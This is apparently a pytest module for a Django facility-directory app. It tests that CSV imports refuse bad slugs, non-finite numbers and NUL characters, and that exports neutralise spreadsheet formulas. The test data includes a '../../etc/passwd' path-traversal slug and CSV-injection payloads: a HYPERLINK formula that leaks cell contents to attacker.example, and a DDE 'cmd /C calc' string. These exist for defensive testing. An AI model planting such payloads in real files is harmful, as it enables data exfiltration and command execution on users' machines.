"""The CSV import refuses what would break pages or spreadsheets, and the export cannot run as a formula."""

import csv
import os
import stat
import time
from decimal import Decimal
from io import StringIO

import pytest
from django.core.exceptions import ImproperlyConfigured
from django.core.management import CommandError, call_command
from django.urls import reverse

from facilities.models import Facility
from imports.csv_format import COLUMNS
from imports.models import ImportJob
from programs.models import Program
from tests.imports import test_csv_format
from tests.imports.test_csv_format import export, import_file, write_rows

pytestmark = pytest.mark.django_db

listings = test_csv_format.listings  # two facilities with every kind of value


def import_problems(path) -> str:
    """What the import reports when it refuses a file with row problems."""
    errors = StringIO()
    with pytest.raises(CommandError, match="Nothing was imported"):
        call_command("import_facilities", str(path), stdout=StringIO(), stderr=errors)
    return errors.getvalue()


def exported_rows() -> list[dict]:
    return list(csv.DictReader(StringIO(export())))


@pytest.mark.parametrize("slug", ["../../etc/passwd", "a/b", "has space <x>", "café", "x" * 221])
def test_a_bad_slug_is_a_row_problem_and_nothing_is_written(listings, tmp_path, slug):
    rows = exported_rows()
    rows.append({**rows[0], "slug": slug, "source_id": ""})
    before = export()
    report = import_problems(write_rows(tmp_path / "slugs.csv", rows))
    assert "row 5: slug: " in report
    assert export() == before


def test_every_problem_of_a_row_is_reported_each_naming_the_row_and_column(listings, tmp_path):
    rows = exported_rows()
    rows[0].update(zip_code="45402-1234567", slug="a/b", weekly_hours_min="lots", evening="sometimes")
    rows[1].update(latitude="91", days_per_week_max="9")
    report = import_problems(write_rows(tmp_path / "many.csv", rows))
    assert "row 2: slug: Enter a valid “slug”" in report
    assert "row 2: zip_code: Ensure this value has at most 10 characters (it has 13)." in report
    assert "row 2: weekly_hours_min must be a number, not 'lots'" in report
    assert "row 2: evening must be yes or no or empty, not 'sometimes'" in report
    assert "row 3: latitude: Must be between -90 and 90." in report
    assert "row 3: days_per_week_max: Must be between 1 and 7." in report


def test_a_program_column_is_named_as_the_file_names_it(listings, tmp_path):
    rows = exported_rows()
    rows[0].update(program_type="detox-only", program_name="x" * 201)
    report = import_problems(write_rows(tmp_path / "program.csv", rows))
    assert "row 2: program_type: Value 'detox-only' is not a valid choice." in report
    assert "row 2: program_name: Ensure this value has at most" in report


@pytest.mark.parametrize("value", ["NaN", "nan", "sNaN", "inf", "-inf", "Infinity", "-Infinity"])
@pytest.mark.parametrize(
    "column",
    ["weekly_hours_min", "weekly_hours_max", "days_per_week_min", "duration_weeks_max", "latitude", "longitude"],
)
def test_a_number_that_is_not_finite_is_refused_naming_row_and_column(listings, tmp_path, column, value):
    rows = exported_rows()
    rows[0][column] = value
    before = export()
    report = import_problems(write_rows(tmp_path / "numbers.csv", rows))
    assert f"row 2: {column} must be a number, not {value!r}" in report
    assert export() == before


@pytest.mark.parametrize("column", ["name", "program_notes", "zip_code"])
def test_a_nul_character_is_refused_naming_row_and_column(listings, tmp_path, column):
    rows = exported_rows()
    rows[1][column] = "Harbor\x00Light"
    before = export()
    report = import_problems(write_rows(tmp_path / "nul.csv", rows))
    assert f"row 3: {column}: contains a NUL character" in report
    assert export() == before


def test_a_nul_character_after_the_last_column_is_refused_too(listings, tmp_path):
    path = tmp_path / "nul.csv"
    header, row, rest = export().split("\n", 2)
    path.write_text(f"{header}\n{row},x\x00\n{rest}", encoding="utf-8")
    report = import_problems(path)
    assert f"row 2: column {len(COLUMNS) + 1}: contains a NUL character" in report


def test_a_nul_character_in_the_header_refuses_the_file(listings, tmp_path):
    path = tmp_path / "nul.csv"
    path.write_text(export().replace("\n", ",notes\x00\n", 1), encoding="utf-8")
    with pytest.raises(CommandError, match=r"Nothing was imported: nul\.csv: the header has a NUL character"):
        import_file(path)


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A2,"Call now")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 (937) 555-0100",
    "-2+3",
    "\tTabbed",
    "\rReturned",
    "'=already quoted",
    "''@twice",
    "'plain quote",
    "Mornings\rEvenings",  # not a formula; the csv writer left a lone "\r" unquoted, breaking the file
]


@pytest.fixture
def formulas(make_facility, make_program):
    """A value that a spreadsheet would run as a formula in each kind of text column."""
    made = []
    for number, value in enumerate(FORMULAS):
        facility = make_facility(name=value, street2=value, phone=value[:30], longitude=-84.19 - number / 100)
        make_program(facility, name=value, notes=value, weekly_hours_min=Decimal("9.5"))
        made.append(facility)
    return made


def test_formulas_are_neutralised_on_export_and_round_trip_exactly(formulas, tmp_path):
    first = export()
    rows = list(csv.DictReader(StringIO(first, newline="")))
    names = {row["name"] for row in rows}
    assert '\'=HYPERLINK("http://attacker.example/?x="&A2,"Call now")' in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert {"'+1 (937) 555-0100", "'-2+3", "'\tTabbed", "'\rReturned", "''=already quoted", "'''@twice"} <= names
    assert {"'plain quote", "Mornings\rEvenings"} <= names  # not formulas: left as they are
    for row in rows:
        assert row["name"] == row["street2"] == row["program_name"] == row["program_notes"]
        assert row["longitude"].startswith("-84.")  # numbers are never prefixed
        assert row["weekly_hours_min"] == "9.5"

    path = tmp_path / "formulas.csv"
    path.write_text(first, encoding="utf-8")
    Facility.objects.all().delete()
    assert f"Created {len(FORMULAS)}, updated 0, unchanged 0" in import_file(path)
    assert sorted(Facility.objects.values_list("name", flat=True)) == sorted(FORMULAS)
    assert sorted(Program.objects.values_list("notes", flat=True)) == sorted(FORMULAS)
    assert Facility.objects.get(name=FORMULAS[0]).longitude == -84.19
    assert export() == first
    assert f"Created 0, updated 0, unchanged {len(FORMULAS)}" in import_file(path)


def test_a_quoted_number_is_not_a_number(listings, tmp_path):
    rows = exported_rows()
    rows[0]["longitude"] = "'-84.19"
    report = import_problems(write_rows(tmp_path / "quoted.csv", rows))
    assert 'row 2: longitude must be a number, not "\'-84.19"' in report


def test_the_admin_export_is_neutralised(curator_client, formulas):
    response = curator_client.post(
        reverse("admin:facilities_facility_changelist"),
        {"action": "export_csv", "_selected_action": [formulas[0].pk]},
    )
    rows = list(csv.DictReader(StringIO(response.content.decode())))
    assert rows[0]["name"] == "'" + FORMULAS[0]


def preview_file(client, content: str, name: str):
    """Upload a file for a preview: the answer redirects to the preview job's page."""
    upload = StringIO(content)
    upload.name = name
    response = client.post(reverse("admin:facilities_facility_import_csv"), {"file": upload})
    assert response.status_code == 302
    return response


def test_apply_writes_exactly_the_file_whose_preview_is_on_screen(curator_client, listings):
    first = preview_file(curator_client, export().replace("(937) 555-0100", "(937) 555-0111"), "first.csv")
    preview_file(curator_client, export().replace("(937) 555-0100", "(937) 555-0122"), "second.csv")  # another tab
    assert curator_client.post(first["Location"], {"apply": "1"}).status_code == 302
    assert Facility.objects.filter(phone="(937) 555-0111").count() == 2  # the first, though the second came later
    assert not Facility.objects.filter(phone="(937) 555-0122").exists()


def test_another_curators_preview_cannot_be_applied(curator_client, listings, client, django_user_model):
    job_page = preview_file(curator_client, export().replace("(937) 555-0100", "(937) 555-0111"), "a.csv")["Location"]
    other = django_user_model.objects.create_superuser("other", password="another long passphrase")
    client.force_login(other)
    assert 'name="apply"' not in client.get(job_page).content.decode()
    client.post(job_page, {"apply": "1"})
    assert not Facility.objects.filter(phone="(937) 555-0111").exists()
    assert not ImportJob.objects.filter(kind=ImportJob.Kind.CSV_APPLY).exists()


def test_uploads_wait_in_a_private_folder_and_go_after_cancel_or_a_day(curator_client, listings, settings, tmp_path):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    job_page = preview_file(curator_client, export(), "a.csv")["Location"]
    token = ImportJob.objects.get(kind=ImportJob.Kind.CSV_PREVIEW).token
    folder = tmp_path / "uploads" / "csv-imports"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert (folder / token).is_file()
    curator_client.post(job_page, {"cancel": "1"})
    assert not (folder / token).exists()

    stale = folder / ("0" * 32)
    stale.write_bytes(b"old")
    day_ago = time.time() - 25 * 60 * 60
    os.utime(stale, (day_ago, day_ago))
    preview_file(curator_client, export(), "b.csv")
    assert not stale.exists()

    folder.chmod(0o755)  # opened up by someone: refused rather than used
    with pytest.raises(ImproperlyConfigured):
        preview_file(curator_client, export(), "c.csv")
